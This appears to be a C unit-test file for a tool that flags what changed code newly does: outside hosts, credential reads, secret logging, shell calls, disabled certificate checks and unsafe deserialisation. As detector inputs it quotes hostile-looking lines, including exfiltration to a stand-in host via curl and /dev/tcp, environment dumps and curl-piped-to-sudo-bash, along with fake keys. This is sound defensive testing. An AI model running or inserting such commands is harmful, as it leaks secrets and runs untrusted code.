/* What the lines of a change newly let a program do: in each language its forms,
 * each at its line, and changes that nothing is said of. */
#include "config.h"

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>

#include "base/buf.h"
#include "base/mem.h"
#include "core/diagnose/adds.h"
#include "core/diagnose/language.h"
#include "tests/unit/changed.h"
#include "tests/unit/unit.h"

/* "3 host a.b.org; 5 starts a shell" */
static char *
found(const char *path, const char *old, const char *new)
{
	struct changed changed;
	bool test = strstr(path, "test") != NULL || strstr(path, "tox") != NULL;
	struct change_text file = changed_make(&changed, path, old, new, test);
	struct adds_founds out;
	struct buf b = BUF_INIT(0);

	adds_find(&file, 1, &out);
	MEM_EACH(&out, v, it)
		buf_addf(&b, "%s%d %s", b.len > 0 ? "; " : "", it->line,
		    it->what);
	adds_founds_release(&out);
	changed_release(&changed);
	return buf_take(&b);
}

/* 1: what is said of it isn't `want`. */
static size_t
differs(size_t i, const char *path, const char *old, const char *new,
    const char *want)
{
	AUTO_FREE char *got = found(path, old, new);

	if (strcmp(got, want) == 0)
		return 0;
	print_error("%zu, %s:\n%s---\n%sgot \"%s\", not \"%s\"\n", i, path,
	    old == NULL ? "" : old, new == NULL ? "" : new, got, want);
	return 1;
}

struct change {
	const char *path, *old, *new;
	const char *want;
};

static void
check(const struct change *t, size_t n)
{
	size_t i, wrong = 0;

	for (i = 0; i < n; i++)
		wrong += differs(i, t[i].path, t[i].old, t[i].new, t[i].want);
	assert_int_equal(wrong, 0);
}

/* A line that is added to a file with these, and what is said of it. */
struct line {
	const char *path, *line, *want;
};

static void
check_lines(const struct line *t, size_t n)
{
	size_t i, wrong = 0;

	for (i = 0; i < n; i++) {
		AUTO_FREE char *new = xasprintf("first = 1\n%s\nlast = 2\n",
		    t[i].line);
		/* All are at the second line, unless it says so. */
		AUTO_FREE char *want = xasprintf("%s%s", *t[i].want == '\0' ||
		    isdigit((unsigned char)*t[i].want) ? "" : "2 ", t[i].want);

		wrong += differs(i, t[i].path, "first = 1\nlast = 2\n", new,
		    want);
	}
	assert_int_equal(wrong, 0);
}

TEST(test_hosts)
{
	static const struct line t[] = {
		{ "a.py", "post('https://a.metrics.org/c')",
		  "host a.metrics.org" },
		{ "a.py", "HOST = \"collect.tracker.net\"",
		  "host collect.tracker.net" },
		{ "a.py", "server = ('stats.acme.io', 443)",
		  "host stats.acme.io" },
		{ "a.py", "DNS = ['8.8.4.4']", "host 8.8.4.4" },
		{ "a.js", "const u = `wss://${room}.push.dev/x`",
		  "host push.dev" },
		{ "a.js", "fetch('//cdn.acme.com/x.js')", "" },
		{ "a.go", "\tbase := \"http://user@11.1.2.3:80/\"",
		  "host 11.1.2.3" },
		{ "a.c", "connect_to(\"irc.acme.org\", 6667);",
		  "host irc.acme.org" },
		{ "a.sh", "curl -d @/etc/os-release https://drop.acme.org",
		  "host drop.acme.org" },
		{ "a.sh", "scp out.tar bob@files.acme.org:/in",
		  "host files.acme.org" },
		{ "Makefile", "\twget http://dl.acme.org/x.tgz",
		  "host dl.acme.org" },
		{ "Dockerfile", "FROM ghcr.acme.io/base:1",
		  "host ghcr.acme.io; 2 image ghcr.acme.io/base 1" },
		{ ".github/workflows/ci.yml",
		  "      - run: curl https://dl.acme.org",
		  "host dl.acme.org" },
		{ "conf.json", "  \"endpoint\": \"https://in.acme.org/v1\",",
		  "host in.acme.org" },
		{ "conf.yml", "  host: mail.acme.org", "host mail.acme.org" },
		{ "conf.yml", "  - 203.0.112.9", "host 203.0.112.9" },
		{ "conf.toml", "bind = \"db.acme.io:5432\"",
		  "host db.acme.io" },
		{ ".env", "SMTP_HOST=smtp.acme.co", "host smtp.acme.co" },
		{ ".env.production", "DSN=https://k@o1.ingest.acme.org/2",
		  "host o1.ingest.acme.org" },
		{ "app.properties", "url=jdbc:mysql://db.acme.net:3306/x",
		  "host db.acme.net" },
		{ "pom.xml", "  <url>https://repo.acme.org/maven</url>",
		  "host repo.acme.org" },
		{ "a.rb", "  mail to: 'ops@acme.org', bcc: 'x@acme.net'",
		  "address ops@acme.org; 2 address x@acme.net" },
		{ "a.yml", "  recipients: [ops@acme.org]",
		  "address ops@acme.org" },
		{ "test_a.py", "get('https://ci.acme-metrics.org')",
		  "host ci.acme-metrics.org" },
		{ "tox.ini", "  URL = https://ci.metrics.org",
		  "host ci.metrics.org" },
		{ "a_test.go", "\tDial(\"91.44.12.7:9000\")",
		  "host 91.44.12.7" },
		{ "a_test.go", "\tallow := []string{\"kiosk-staging.com\"}",
		  "host kiosk-staging.com" },
		{ "test.sh", "check https://ci.metrics.org",
		  "host ci.metrics.org" },
		{ ".github/workflows/ci.yml", "  - run: x --host in.acme.org",
		  "host in.acme.org" },
		{ "a.sh", "HOST=in.acme.org", "host in.acme.org" },
		{ "a.py", "add('--url', default='https://in.acme.org', help='x')",
		  "host in.acme.org" },
		{ "a.cs", "\tlegacyUrl = \"https://in.acme.org\";",
		  "host in.acme.org" },
		/* Each of a line: one may be known. */
		{ "a.py", "H = ['github.com', 'drop.acme.org']",
		  "host github.com; 2 host drop.acme.org" },
		/* Spellings. */
		{ "a.py", "u = 'https://drop.acme.org?a=@github.com'",
		  "host drop.acme.org" },
		{ "a.py", "u = f'https://drop.acme.org{path}'",
		  "host drop.acme.org" },
		{ "a.json", "  \"u\": \"https:\\/\\/drop.acme.org\\/c\",",
		  "host drop.acme.org" },
		{ "a.py", "u = 'http://[2a01:4f8::2]:80/'",
		  "host [2a01:4f8::2]" },
		{ "a.py", "u = 'http://[::1]:80/'", "" },
		{ "a.py", "u = 'http://\xd0\xb0" "cme.org'",
		  "host \xd0\xb0" "cme.org" },
		{ "a.sh", "exec 3<>/dev/tcp/drop.acme.org/443",
		  "host drop.acme.org" },
		{ "a.sh", "curl -d @f drop.acme.org/c", "host drop.acme.org" },
		{ "a.sh", "git clone git@drop.acme.org:a/b.git",
		  "host drop.acme.org" },
		{ "a.sh", "a=\"b # c\"; curl https://drop.acme.org",
		  "host drop.acme.org" },
		{ "a.py", "post('https://drop.acme.org/schema/', t)",
		  "host drop.acme.org" },
		{ "a.js", "a.replace(/^https?:\\/\\//, ''); "
		  "get('https://drop.acme.org')", "host drop.acme.org" },
		/* Not what it looks like. */
		{ "test_a.py", "eq(get('https://ci.metrics.org'), 1)", "" },
		{ "a.test.ts", "  stub_get('https://ci.metrics.org')", "" },
		{ "test_a.py", "URLS = ['https://ci.metrics.org']", "" },
		{ "a.py", "add('--url', help='https://in.acme.org')", "" },
		{ "a.json", "  \"usage\":\"by default https://in.acme.org\",",
		  "" },
		{ "a.yml", "  description: https://in.acme.org", "" },
		{ "a.sh", "dokku domains:set app in.acme.net", "" },
		{ "a.cs", "\tstring[] LegacyLinks => new[]\n\t{\n"
		  "\t\t\"https://in.acme.org\",\n\t};", "" },
		{ "a.yml", "  legacylinks:\n    - https://in.acme.org", "" },
		{ "a.py", "documentation = 'https://acme.org/help'", "" },
		{ "test_a.py", "get('https://foo.com')", "" },
		{ "test_a.py", "os.system(a)", "" },
		{ "tests/fixtures/a.json", "  \"url\": \"https://ci.metrics.org\"",
		  "" },
		{ "a.yml", "  host: 192.168.1.4", "" },
		{ "a.py", "x = 1  # https://a.metrics.org", "" },
		{ "a.py", "\"\"\"See https://a.metrics.org.\"\"\"", "" },
		{ "a.py", "raise E('read https://acme.org/help')", "" },
		{ "a.py", "get('https://example.com/x')", "" },
		{ "a.py", "get('http://127.0.0.1:80')", "" },
		{ "a.py", "get('http://192.0.2.7/')", "" },
		{ "a.py", "get('http://api.service.test/')", "" },
		{ "a.py", "get('http://redis/')", "" },
		{ "a.c", "static const char *peer = \"91.203.5.17\";",
		  "host 91.203.5.17" },
		{ "a.py", "log_to = ('62.4.8.15', 514)", "host 62.4.8.15" },
		{ "a.py", "VERSION = '1.22.3.4'", "" },
		{ "a.py", "VERSION = '7.0.0.dev'", "" },
		{ "a.kt", "const val graal = \"22.0.0.2\"", "" },
		{ "a.py", "name = 'django.contrib.auth'", "" },
		{ "a.java", "String p = \"com.acme.app\";", "" },
		{ "a.js", "import x from 'socket.io'", "" },
		{ "a.js", "load('user.store')", "" },
		{ "a.xml", "<a xmlns=\"http://schemas.acme.org/a\">", "" },
		{ "package.json", "  \"homepage\": \"https://acme.org\",", "" },
		{ "package.json", "  \"author\": \"B <b@acme.org>\",", "" },
		{ "a.ini", "; see https://acme.org", "" },
		{ "a.json", "  // see https://acme.org", "" },
		{ "a.sh", "echo \"see https://acme.org\"", "" },
		{ "a.md", "https://a.metrics.org", "" },
		{ "a.yml", "$schema: \"https://acme.org/a.json\"", "" },
		{ "conf.yml.example", "host: mail.acme.org", "" },
	};

	check_lines(t, MEM_COUNT(t));
}

TEST(test_credentials)
{
	static const struct line t[] = {
		{ "a.py", "k = os.environ['AWS_SECRET_ACCESS_KEY']",
		  "reads AWS_SECRET_ACCESS_KEY" },
		{ "a.py", "k = os.getenv(\"DB_PASSWORD\", '')",
		  "reads DB_PASSWORD" },
		{ "a.py", "f = open(expanduser('~/.aws/credentials'))",
		  "reads .aws/credentials" },
		{ "a.js", "const t = process.env.NPM_TOKEN",
		  "reads NPM_TOKEN" },
		{ "a.ts", "const t = process.env['API_KEY']", "reads API_KEY" },
		{ "a.go", "\tt := os.Getenv(\"GH_TOKEN\")", "reads GH_TOKEN" },
		{ "a.rs", "let t = std::env::var(\"GH_TOKEN\")?;",
		  "reads GH_TOKEN" },
		{ "a.java", "String t = System.getenv(\"GH_TOKEN\");",
		  "reads GH_TOKEN" },
		{ "a.kt", "val t = System.getenv(\"GH_TOKEN\")",
		  "reads GH_TOKEN" },
		{ "a.rb", "t = ENV.fetch('GH_TOKEN')", "reads GH_TOKEN" },
		{ "a.php", "$t = getenv('GH_TOKEN');", "reads GH_TOKEN" },
		{ "a.cs", "var t = Environment.GetEnvironmentVariable(\"T_KEY\");",
		  "" },
		{ "a.cs", "var t = Environment.GetEnvironmentVariable(\"API_KEY\");",
		  "reads API_KEY" },
		{ "a.c", "\tt = getenv(\"GH_TOKEN\");", "reads GH_TOKEN" },
		{ "a.sh", "cat ~/.netrc", "reads .netrc" },
		{ "a.sh", "curl -H \"X: $GH_TOKEN\" localhost",
		  "reads GH_TOKEN" },
		{ "a.js", "const { NPM_TOKEN, HOME } = process.env",
		  "reads NPM_TOKEN" },
		{ "a.py", "post(u, json=dict(os.environ))",
		  "reads the environment" },
		{ "a.js", "const has = !!process.env.NPM_TOKEN", "" },
		{ "a.rb", "expect(puts(a)) do", "" },
		{ "a.sh", "[ -n \"$GH_TOKEN\" ] || exit", "" },
		{ "a.py", "k = os.environ['HOME']", "" },
		{ "a.py", "k = os.environ['TOKEN_TTL']", "" },
		{ "a.sh", "GH_TOKEN=$1; use \"$GH_TOKEN\"", "" },
		{ "a.sh", "GH_TOKEN=\"${GH_TOKEN:-}\"; use \"$GH_TOKEN\"",
		  "reads GH_TOKEN" },

		{ "a.py", "    log.info('token %s', token)", "logs token" },
		{ "a.py", "    print(f'got {user.password}')",
		  "logs password" },
		{ "a.py", "    log.info(\n        'x', api_key)",
		  "3 logs api_key" },
		{ "a.js", "console.log('t', req.headers['x'], apiKey)",
		  "logs apiKey" },
		{ "a.js", "logger.debug(`t ${accessToken}`)",
		  "logs accessToken" },
		{ "a.go", "\tlog.Printf(\"%s\", cfg.Secret)", "logs Secret" },
		{ "a.rs", "info!(\"{}\", token.expose_secret());",
		  "logs token" },
		{ "a.rs", "info!(\"{token}\");", "logs token" },
		{ "a.java", "log.info(\"t {}\", user.getPassword());",
		  "logs getPassword" },
		{ "a.rb", "logger.info \"t #{token}\"", "logs token" },
		{ "a.php", "error_log(\"t $password\");", "logs password" },
		{ "a.cs", "_logger.LogInformation(\"{T}\", token);",
		  "logs token" },
		{ "a.c", "\tsyslog(LOG_INFO, \"%s\", ctx->password);",
		  "logs password" },
		{ "a.sh", "echo \"token: $GH_TOKEN\"",
		  "logs GH_TOKEN; 2 reads GH_TOKEN" },
		{ "a.py", "    log.info('invalid token')", "" },
		{ "a.py", "    log.info('%d', len(token))", "" },
		{ "a.py", "    log.info('%s', mask(token))", "" },
		{ "a.py", "    log.info('%s...', token[:4])", "" },
		{ "a.py", "    log.info('%s', token_count)", "" },
		{ "a.py", "    log.info('%s', token is None)", "" },
		{ "a.js", "console.log(token ? 'yes' : 'no')", "" },
		{ "a.js", "console.log(token.type)", "" },
		{ "a.go", "\tlog.Printf(\"%s\", validateToken(t))", "" },
		{ "a.kt", "    logger.error {\n        \"x ${apiKey}\"\n    }",
		  "3 logs apiKey" },
		{ "a.go", "\tlog.Printf(\n\t\t\"x\",\n\t\tcfg.Token)",
		  "4 logs Token" },
		{ "a.sh", "log \"login $DB_PASSWORD\"",
		  "logs DB_PASSWORD; 2 reads DB_PASSWORD" },
		{ "a.rb", "logger.error do\n  \"x #{api_key}\"\nend",
		  "3 logs api_key" },
		{ "a.sh", "note \"db -> $DB_PASSWORD\"",
		  "logs DB_PASSWORD; 2 reads DB_PASSWORD" },
		{ "a.cs", "await s.LogOnAsync(user, password);", "" },
		{ "a.js", "console.log(!!token, token.length)", "" },
		{ "a.js", "console.log(`${token ? 'a' : 'b'}`)", "" },
		{ "a.sh", "echo \"$GH_TOKEN\" | login --stdin",
		  "reads GH_TOKEN" },

		{ "a.py", "KEY = 'AKIAIOSFODNN7ABCDEFG'",
		  "a value that looks like a key" },
		{ "a.yml", "  api_key: 9f86d081884c7d659a2feaa0c55ad015",
		  "a value that looks like a key" },
		{ "a.js", "const c = { apiKey: \"q8Zr4Tn1Lw7Pk2Vd9Xs3\" }",
		  "a value that looks like a key" },
		{ "a.toml", "url = \"postgres://u:q8Zr4Tn1Lw7Pk2Vd9Xs3@db/x\"",
		  "a value that looks like a key" },
		{ "a.pem", "x", "" },
		{ "a.py", "CSRF_HEADER = 'x-0123456789-abcdefgh-1234'", "" },
		{ "a.json", "  \"sha\": \"9f86d081884c7d659a2feaa0c55ad015\"",
		  "" },
		{ "a.py", "API_KEY = 'your-api-key-0123-4567-89'", "" },
	};

	check_lines(t, MEM_COUNT(t));
}

TEST(test_forms)
{
	static const struct line t[] = {
		{ "a.py", "subprocess.run(a)", "starts a process" },
		{ "a.py", "subprocess.run(a, shell=True)", "starts a shell" },
		{ "a.py", "    shell=True,", "starts a shell" },
		{ "a.js", "require('child_process').exec(a)",
		  "starts a shell" },
		{ "a.js", "cp.execSync(a) // child_process", "starts a shell" },
		{ "a.js", "const m = /x/.exec(a)", "" },
		{ "a.go", "\texec.Command(\"sh\", \"-c\", a).Run()",
		  "starts a shell" },
		{ "a.go", "\texec.Command(\"ls\").Run()", "starts a process" },
		{ "a.rs", "std::process::Command::new(\"ls\").spawn()?;",
		  "starts a process" },
		{ "a.rs", "let c = Command::new(\"app\").arg(x);", "" },
		{ "a.java", "Runtime.getRuntime().exec(a);",
		  "starts a process" },
		{ "a.kt", "ProcessBuilder(\"ls\").start()",
		  "starts a process" },
		{ "a.rb", "system(\"ls #{a}\")", "starts a shell" },
		{ "a.rb", "x = `ls`", "starts a shell" },
		{ "a.rb", "Open3.capture3(\"ls #{a}\")", "starts a shell" },
		{ "a.rb", "Open3.capture2(a)", "starts a shell" },
		{ "a.rb", "Open3.capture3('git', *a)", "starts a process" },
		{ "a.rb", "Open3.popen3(*a)", "starts a process" },
		{ "a.php", "shell_exec($a);", "starts a shell" },
		{ "a.php", "$db->exec($a);", "" },
		{ "a.php", "public function exec($a)", "" },
		{ "a.cs", "Process.Start(a);", "starts a process" },
		{ "a.c", "\tsystem(a);", "starts a shell" },
		{ "a.c", "\tp = fork();", "starts a process" },
		{ "a.c", "int system(const char *);", "" },
		{ "build.gradle", "  exec { commandLine 'ls' }",
		  "starts a process" },

		{ "a.py", "requests.get(u, verify=False)",
		  "certificates unchecked" },
		{ "a.py", "ctx.check_hostname = False",
		  "certificates unchecked" },
		{ "a.py", "jwt.decode(t, k, options={'verify_signature': False})",
		  "signatures unchecked" },
		{ "a.py", "c.set_missing_host_key_policy(paramiko.AutoAddPolicy())",
		  "host keys unchecked" },
		{ "a.js", "agent = new Agent({ rejectUnauthorized: false })",
		  "certificates unchecked" },
		{ "a.js", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'",
		  "certificates unchecked" },
		{ "a.go", "\tc := &tls.Config{InsecureSkipVerify: true}",
		  "certificates unchecked" },
		{ "a.go", "\t\tInsecureSkipVerify: cfg.Insecure,",
		  "certificates unchecked" },
		{ "a.go", "\t\tInsecureSkipVerify: false,", "" },
		{ "a.rs", "    .danger_accept_invalid_certs(true)",
		  "certificates unchecked" },
		{ "a.java", "b.hostnameVerifier((h, s) -> true);",
		  "certificates unchecked" },
		{ "a.rb", "http.verify_mode = OpenSSL::SSL::VERIFY_NONE",
		  "certificates unchecked" },
		{ "a.php", "curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);",
		  "certificates unchecked" },
		{ "a.cs", "h.ServerCertificateCustomValidationCallback = "
		  "(a, b, c, d) => true;", "certificates unchecked" },
		{ "a.c", "curl_easy_setopt(c, CURLOPT_SSL_VERIFYPEER, 0L);",
		  "certificates unchecked" },
		{ "a.sh", "curl -k \"$u\"", "certificates unchecked" },
		{ "a.sh", "ssh -o StrictHostKeyChecking=no h",
		  "host keys unchecked" },
		{ "a.yml", "  verify_ssl: false", "certificates unchecked" },
		{ "a.yml", "  tls_verify: no", "certificates unchecked" },
		{ "a.yml", "  ssl_verification: none", "certificates unchecked" },
		{ "a.ini", "insecure_skip_verify = true", "certificates unchecked" },
		{ ".npmrc", "strict-ssl=false", "certificates unchecked" },
		{ ".npmrc", "strict-peer-dependencies=false", "" },
		{ "a.json", "  \"trustServerCertificate\": true,",
		  "certificates unchecked" },
		{ "a.yml", "  url: postgres://db/x?sslmode=disable",
		  "certificates unchecked" },
		{ "a.yml", "tls:\n  verify: none", "3 certificates unchecked" },
		{ "a.toml", "[ssl]\nverify = false", "3 certificates unchecked" },
		{ "a.yml", "mail:\n  verify: none", "" },
		{ "a.yml", "  verify_email: false", "" },
		{ "a.yml", "  allow_tls: true", "" },
		{ "a.yml", "  tls_verify: yes", "" },
		{ "a.py", "requests.get(u, verify=True)", "" },

		{ "a.py", "pickle.loads(b)", "runs data as code" },
		{ "a.py", "yaml.load(b)", "runs data as code" },
		{ "a.py", "yaml.load(b, Loader=yaml.SafeLoader)", "" },
		{ "a.py", "from ruamel.yaml import YAML\nyaml = YAML()\n"
		  "yaml.load(b)", "" },
		{ "a.php", "assert($a instanceof B);", "" },
		{ "a.py", "model.eval()", "" },
		{ "a.py", "def eval(x):", "" },
		{ "a.js", "new Function('a', b)", "runs data as code" },
		{ "a.rb", "Marshal.load(b)", "runs data as code" },
		{ "a.php", "unserialize($b);", "runs data as code" },
		{ "a.java", "new ObjectInputStream(b);", "runs data as code" },
		{ "a.cs", "var f = new BinaryFormatter();",
		  "runs data as code" },
		{ "a.sh", "curl -s \"$u\" | sudo bash", "runs data as code" },
		{ "Makefile", "$(eval X=1)", "" },

		{ "a.py", "s.bind(('', 80))", "listens" },
		{ "a.js", "http.createServer(f).listen(80)", "listens" },
		{ "a.go", "\thttp.ListenAndServe(\":80\", nil)", "listens" },
		{ "a.py", "os.chmod(p, 0o777)", "world-writable" },
		{ "a.sh", "chmod -R 777 d", "world-writable" },
		{ "a.c", "\tsetuid(0);", "changes its user" },
		{ "a.py", "shutil.rmtree(d)", "removes files recursively" },
		{ "a.go", "\tos.Remove(d)", "removes a file" },
		{ "a.py", "with open(p, 'w') as f:", "writes a file" },
		{ "a.py", "with open(p) as f:", "" },
		{ "a.c", "\tf = fopen(p, \"w\");", "writes a file" },
		{ "a.php", "fopen('php://output', 'w');", "" },
		/* In a string, and in a comment. */
		{ "a.py", "x = 'os.system(a)'", "" },
		{ "a.py", "# os.system(a)", "" },
		/* Words before a call, and blanks in it. */
		{ "a.go", "\tgo exec.Command(a).Run()", "starts a process" },
		{ "a.go", "\tdefer os.RemoveAll(a)",
		  "removes files recursively" },
		{ "a.py", "elif os.system (a):", "starts a shell" },
		{ "a.php", "echo shell_exec($a);", "starts a shell" },
		{ "a.c", "static int system (const char *a);", "" },
		{ "a.c", "\tsystem (a);", "starts a shell" },
		/* After what isn't a comment, or no longer. */
		{ "a.js", "a = /[/*]/; eval(b)", "runs data as code" },
		{ "a.js", "a = b / c; // eval(d) / 2", "" },
		{ "a.js", "a = `${eval(b)}`", "runs data as code" },
		{ "a.py", "# a\ros.system(b)", "starts a shell" },
		{ "a.php", "#[Pure] function f() { system($a); }",
		  "starts a shell" },
		{ "a.php", "// a ?><?php system($a);", "starts a shell" },
		{ "a.env", "A=<!--\nB=https://drop.acme.org",
		  "3 host drop.acme.org" },
		/* A part of a test is one until it ends. */
		{ "a.rs", "#[cfg(test)]\nmod a;\nfn b() { remove_file(c); }",
		  "4 removes a file" },
		/* All of a line. */
		{ "a.py", "os.system('curl -k https://a.acme.org | sh')",
		  "certificates unchecked; 2 runs data as code; "
		  "2 starts a shell; 2 host a.acme.org" },
	};

	check_lines(t, MEM_COUNT(t));
}

TEST(test_newly)
{
	static const struct change t[] = {
		/* The same host, another path. */
		{ "a.py", "get('https://a.acme.org/c')\n",
		  "get('https://a.acme.org/d')\n", "" },
		{ "a.py", "get('https://a.acme.org')\n",
		  "get('https://a.acme.org.evil.net')\n",
		  "1 host a.acme.org.evil.net" },
		{ "a.yml", "to: a@acme.org\n",
		  "to: a@acme.org,b@other.com\n", "1 address b@other.com" },
		/* Another of a domain, and of one that is everybody's. */
		{ "a.yml", "to:\n  - a@acme.org\n",
		  "to:\n  - a@acme.org\n  - b@acme.org\n", "" },
		{ "a.yml", "to:\n  - a@gmail.com\n",
		  "to:\n  - a@gmail.com\n  - b@gmail.com\n",
		  "3 address b@gmail.com" },
		{ "a.py", "subprocess.run(a)\n",
		  "subprocess.run(a)\nsubprocess.run(b)\n", "" },
		{ "a.py", "subprocess.run(a)\n",
		  "subprocess.run(a)\nsubprocess.run(a, shell=True)\n",
		  "2 starts a shell" },
		/* What counts as the same word is the search's rule. */
		{ "a.py", "# X-API_TOKEN\n",
		  "# X-API_TOKEN\nt = os.environ['API_TOKEN']\n", "" },
		{ "a.py", "# \xc3\xa9" "a.acme.org\n",
		  "# \xc3\xa9" "a.acme.org\nget('https://a.acme.org')\n",
		  "2 host a.acme.org" },
		/* It moved. */
		{ "a.py", "def f():\n    os.system(a)\n",
		  "if x:\n    def f():\n        os.system(a)\n", "" },
		/* It was in a comment. */
		{ "a.c", "/*\nsystem(a);\n*/\n", "system(a);\n",
		  "1 starts a shell" },
		{ "a.c", "// system(a);\nb();\n", "b();\nsystem(a);\n",
		  "2 starts a shell" },
		/* What runs it is known by its first line. */
		{ "bin/a", NULL, "#!/usr/bin/env python3\nos.system(a)\n",
		  "2 starts a shell" },
		{ "bin/a", NULL, "#!/bin/sh\nrm -rf \"$1\"\n",
		  "2 removes files recursively" },
		/* Once in a hunk. */
		{ "a.py", NULL, "os.remove(a)\nos.remove(b)\n",
		  "1 removes a file" },
		{ "a.rs", "fn f() {}\n", "fn f() {}\n#[cfg(test)]\nmod t {\n"
		  "    fn g() { std::fs::remove_file(x); }\n}\n", "" },
		{ "a.py", "x\n", NULL, "" },
		{ "a.key.py", "x\n", "x\nK = \"\"\"\n"
		  "-----BEGIN RSA PRIVATE KEY-----\n"
		  "MIIEowIBAAKCAQEAx8Zr4Tn1Lw7Pk2Vd9Xs3q8Zr4Tn1Lw7Pk2Vd9Xs3\n"
		  "-----END RSA PRIVATE KEY-----\n\"\"\"\n",
		  "4 a value that looks like a key" },
	};

	check(t, MEM_COUNT(t));
}

/* A long line takes no longer for that, and what isn't listed is told. */
TEST(test_many)
{
	AUTO_BUF struct buf b = BUF_INIT(0);
	struct changed changed;
	struct change_text file;
	struct adds_founds out;
	int i;

	buf_adds(&b, "echo");
	for (i = 0; i < 100000; i++)
		buf_adds(&b, " http://acme.org");
	check(&(struct change){ "a.sh", NULL, buf_str(&b), "" }, 1);
	buf_clear(&b);
	for (i = 0; i < 1100; i++)
		buf_addf(&b, "get('https://a%d.acme.org')\n", i);
	file = changed_make(&changed, "a.py", NULL, buf_str(&b), false);
	adds_find(&file, 1, &out);
	assert_int_equal(out.v_len, ADDS_FOUND_MAX);
	assert_string_equal(out.v[ADDS_FOUND_MAX - 1].what,
	    "more, which isn't listed");
	adds_founds_release(&out);
	changed_release(&changed);
}

/* Nothing is read out of bounds, and it ends soon, whatever a text has. */
TEST(test_any_text)
{
	static const char *const ends[] = { "py", "js", "go", "rs", "java",
		"rb", "php", "cs", "c", "sh", "yml", "json", "mk" };
	static const char parts[] = "os.environ[\"${://a.b@c.com:'`(){}|-> "
	    "\\\n\"\"\"#/*token=print(log.info(f\"{";
	AUTO_BUF struct buf b = BUF_INIT(0);
	size_t i, n;

	for (i = 0; i < 4000; i++)
		buf_addc(&b, parts[(i * i + i / 7) % (sizeof(parts) - 1)]);
	for (i = 0; i < MEM_COUNT(ends); i++) {
		AUTO_FREE char *path = xasprintf("a.%s", ends[i]);

		free(found(path, NULL, b.p));
		for (n = 0; n < 200; n++) {
			AUTO_FREE char *part = xmemdup(b.p + n * 7, n);

			free(found(path, "x\n", part));
		}
	}
}
